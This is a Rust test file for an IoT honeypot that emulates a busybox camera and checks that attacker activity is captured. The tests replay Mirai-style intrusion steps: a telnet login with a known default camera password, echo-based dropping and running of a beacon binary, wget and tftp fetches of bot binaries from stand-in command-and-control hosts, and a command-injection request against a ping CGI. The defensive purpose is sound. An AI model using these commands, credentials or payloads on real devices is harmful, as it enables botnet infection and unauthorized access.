//! The decoy with the real camera: busybox on the emulated machine behind both fronts.
mod support;

use otori_decoy::DecoyConfig;
use otori_decoy::product::Product;
use otori_device::{Device, Profile, userland};
use otori_event::event::DownloadOutcome;
use otori_event::{Event, EventKind};
use std::path::PathBuf;
use std::sync::{Arc, OnceLock};
use std::time::{Duration, Instant};
use support::{Peer, Running, config, start};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

static BEACON: &[u8] = include_bytes!("../../../vectors/samples/beacon.mipsel");

fn camera() -> Arc<Device> {
    static CAMERA: OnceLock<Arc<Device>> = OnceLock::new();
    let make = || {
        let cache = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("userland");
        let profile = Profile::embedded("camera-mipsel").expect("the embedded profile is right");
        let ready = userland::obtain(&cache, &profile.table.userland, &mut |_| {});
        let ready = ready.unwrap_or_else(|error| panic!("{error}"));
        Arc::new(Device::prepare(profile, &ready.root).unwrap_or_else(|error| panic!("{error}")))
    };
    CAMERA.get_or_init(make).clone()
}

async fn running(config: DecoyConfig) -> Running {
    let product = tokio::task::spawn_blocking(|| Product::new(camera())).await;
    let product = product.expect("a thread").expect("the camera is playable");
    start(config, Arc::new(product)).await
}

/// Logs in and gives the first prompt.
async fn shell(running: &Running) -> Peer {
    let mut peer = Peer::connect(running.telnet).await;
    // Wide enough that the line editor does not break a test's lines.
    peer.send(b"\xff\xfb\x1f\xff\xfa\x1f\x07\xd0\x00\x18\xff\xf0").await;
    peer.log_in("root", "xc3511", "# ").await;
    peer
}

impl Peer {
    /// Types a line and gives what the terminal shows behind its echo, up to the next prompt.
    async fn ask(&mut self, line: &str) -> String {
        self.send(format!("{line}\r\n")).await;
        let mark = line.as_bytes();
        self.until(&mark[mark.len().saturating_sub(20)..]).await;
        self.until("\r\n").await;
        let shown = self.until("# ").await;
        let text = String::from_utf8_lossy(&shown).replace("\r\n", "\n");
        text.rsplit_once('\n').map_or(String::new(), |(answer, _)| format!("{answer}\n"))
    }
}

fn loader_lines(program: &[u8], file: &str) -> Vec<String> {
    let escape = |part: &[u8]| part.iter().map(|byte| format!("\\x{byte:02x}")).collect::<String>();
    program.chunks(100).map(|part| format!("echo -ne \"{}\" >> {file}", escape(part))).collect()
}

fn captured(event: &Event) -> Option<otori_event::Artifact> {
    match &event.kind {
        EventKind::FileCaptured { artifact } => Some(artifact.clone()),
        _ => None,
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_shell_answers_as_the_device_does() {
    let running = running(config()).await;
    let mut peer = shell(&running).await;
    for (line, answer) in [
        ("enable", "-sh: enable: not found\n"),
        ("/bin/busybox ECCHI", "ECCHI: applet not found\n"),
        ("/bin/busybox MIRAI; echo $?", "MIRAI: applet not found\n127\n"),
        ("echo $((1<<4)) ${X:-y}", "16 y\n"),
        ("echo -ne '\\\\x0181c\\\\x01'; echo", "\\x0181c\\x01\n"),
        ("cp /bin/busybox /tmp/.s; /tmp/.s", ".s: applet not found\n"),
        ("kill -9 99999; echo $?", "sh: can't kill pid 99999: No such process\n1\n"),
        ("tty; stty size", "/dev/pts/0\n24 2000\n"),
        ("dd bs=52 count=1 if=/bin/busybox 2>/dev/null | wc -c", "52\n"),
        ("echo $0 $USER $TERM", "-sh root vt102\n"),
    ] {
        assert_eq!(peer.ask(line).await, answer, "{line}");
    }
    peer.send("exit\r\n").await;
    peer.rest().await;
    assert_eq!(running.closed().await, "logout");
    assert!(!running.words().contains(&"unsupported"), "{:?}", running.kept.lock().unwrap().events);
    assert!(!running.words().contains(&"file_captured"), "a copy of busybox is no catch");
    running.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_dropped_program_is_captured_run_and_kept_from_the_world() {
    let running = running(config()).await;
    let mut peer = shell(&running).await;
    peer.ask("cd /tmp").await;
    for line in loader_lines(BEACON, ".d") {
        peer.ask(&line).await;
    }
    let sent = Instant::now();
    // It is removed before it has done anything.
    peer.send("chmod 777 .d; ./.d & rm .d\r\n").await;
    let artifact = running.wait_for(captured).await;
    let took = sent.elapsed();
    assert_eq!((artifact.size, artifact.name.to_string().as_str()), (BEACON.len() as u64, "/tmp/.d"));
    assert!(artifact.mode & 0o111 != 0 && artifact.url.is_none());
    assert!(took < Duration::from_secs(1), "captured after {took:?}");
    let remote = running
        .wait_for(|e| match &e.kind {
            EventKind::Outbound { remote, .. } => Some(remote.to_string()),
            _ => None,
        })
        .await;
    assert_eq!(remote, "198.51.100.44:4444");
    let kept = running.stop().await;
    let kept = kept.lock().unwrap();
    assert_eq!(kept.files.len(), 1, "once");
    assert_eq!(kept.files[0].1, BEACON);
    let ran =
        |e: &&Event| matches!(&e.kind, EventKind::Executed { path, .. } if path.to_string() == "/tmp/.d");
    assert_eq!(kept.events.iter().filter(ran).count(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn probes_are_not_kept_but_scripts_are_when_quiet_or_run() {
    let running = running(config()).await;
    let mut peer = shell(&running).await;
    peer.ask("echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; cat /tmp/.nippon; rm /tmp/.nippon").await;
    peer.ask("echo 'echo hello' > /tmp/a; sh /tmp/a").await;
    peer.ask("echo '#!/bin/sh' > /tmp/b").await;
    running.wait_for(|e| captured(e).filter(|a| a.name.to_string() == "/tmp/b")).await;
    let names: Vec<String> = {
        let kept = running.kept.lock().unwrap();
        kept.events.iter().filter_map(captured).map(|a| a.name.to_string()).collect()
    };
    assert_eq!(names, ["/tmp/a", "/tmp/b"]);
    running.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn downloads_are_named_and_refused() {
    let mut config = config();
    config.gateway.refuse_after_ms = 200;
    let running = running(config).await;
    let mut peer = shell(&running).await;
    let said = peer.ask("wget http://192.0.2.66/bins/mips -O /tmp/m").await;
    assert!(said.contains("Connecting to 192.0.2.66 (192.0.2.66:80)"), "{said}");
    assert!(said.contains("reset by peer"), "{said}");
    peer.ask("wget http://cnc.example.com:8080/m").await;
    peer.send("tftp -g -r bot.mips 192.0.2.67\r\n").await;
    let url = |want: &'static str| {
        move |e: &Event| match &e.kind {
            EventKind::DownloadRequested { url, outcome: DownloadOutcome::Refused { .. } } if url == want => {
                Some(())
            }
            _ => None,
        }
    };
    running.wait_for(url("http://192.0.2.66/bins/mips")).await;
    running.wait_for(url("http://cnc.example.com:8080/m")).await;
    running.wait_for(url("tftp://192.0.2.67/bot.mips")).await;
    running.stop().await;
}

/// An address of this machine that is not loopback: the guest's own loopback is its own.
fn own_address() -> Option<std::net::IpAddr> {
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    socket.connect("192.0.2.1:9").ok()?;
    Some(socket.local_addr().ok()?.ip()).filter(|ip| !ip.is_loopback())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_download_arrives_exactly_when_fetching_is_on() {
    let Some(address) = own_address() else {
        eprintln!("no address but loopback here; the test in network namespaces shows this");
        return;
    };
    let listener = tokio::net::TcpListener::bind((address, 0)).await.unwrap();
    let server = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let _ = stream.read(&mut [0; 4096]).await;
            let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", BEACON.len());
            let _ = stream.write_all(&[head.as_bytes(), BEACON].concat()).await;
        }
    });
    let mut config = config();
    config.fetch.enabled = true;
    config.fetch.allow = vec![format!("{address}").parse().unwrap()];
    let running = running(config).await;
    let mut peer = shell(&running).await;
    let said =
        peer.ask(&format!("cd /tmp; wget http://{server}/b.mips; ls -l b.mips; chmod +x b.mips")).await;
    assert!(said.contains(" 1520 "), "{said}");
    let artifact = running.wait_for(captured).await;
    assert_eq!(artifact.url, Some(format!("http://{server}/b.mips")));
    assert_eq!(artifact.method, otori_event::CaptureMethod::Http);
    let kept = running.stop().await;
    assert!(kept.lock().unwrap().files.iter().all(|(_, bytes)| bytes == BEACON));
}

#[tokio::test(flavor = "multi_thread")]
async fn time_passes_as_outside_and_a_busy_guest_delays_nobody() {
    let mut config = config();
    config.limits.threads = 1;
    let running = running(config).await;
    let mut busy = shell(&running).await;
    busy.send("while :; do :; done\r\n").await;
    let mut finding = shell(&running).await;
    finding.send("while :; do find / -name busybox >/dev/null 2>&1; done\r\n").await;
    let mut peer = shell(&running).await;
    let start = Instant::now();
    peer.ask("sleep 2").await;
    let slept = start.elapsed();
    assert!(slept >= Duration::from_secs(2) && slept < Duration::from_secs(4), "{slept:?}");
    for _ in 0..5 {
        let start = Instant::now();
        peer.ask("echo hi").await;
        assert!(start.elapsed() < Duration::from_secs(1), "{:?}", start.elapsed());
    }
    running.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_injected_command_reaches_the_device() {
    let running = running(config()).await;
    let mut peer = Peer::connect(running.http).await;
    peer.send("GET /cgi-bin/ping.cgi?address=;cat+/proc/cpuinfo;id HTTP/1.0\r\n\r\n").await;
    let said = String::from_utf8_lossy(&peer.rest().await).into_owned();
    assert!(said.starts_with("HTTP/1.0 200 OK\r\nServer: mini_httpd/1.19 19dec2003\r\n"), "{said}");
    assert!(said.contains("mips32r2") && said.contains("uid=0(root)"), "{said}");
    running.closed().await;
    let technique = running.wait_for(|e| {
        if let EventKind::Exploit { technique, .. } = &e.kind { Some(technique.clone()) } else { None }
    });
    assert_eq!(technique.await, "http-command-injection");
    running.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_keyboard_interrupts_and_the_window_is_known() {
    let running = running(config()).await;
    let mut peer = Peer::connect(running.telnet).await;
    peer.send(b"\xff\xfb\x1f\xff\xfa\x1f\x00\x84\x00\x32\xff\xf0").await;
    peer.log_in("root", "xc3511", "# ").await;
    assert_eq!(peer.ask("stty size").await, "50 132\n");
    peer.send("sleep 1000\r\n").await;
    peer.until("sleep 1000\r\n").await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    peer.send(b"\x03").await;
    peer.until("# ").await;
    peer.send("exit\r\n").await;
    peer.rest().await;
    running.stop().await;
}
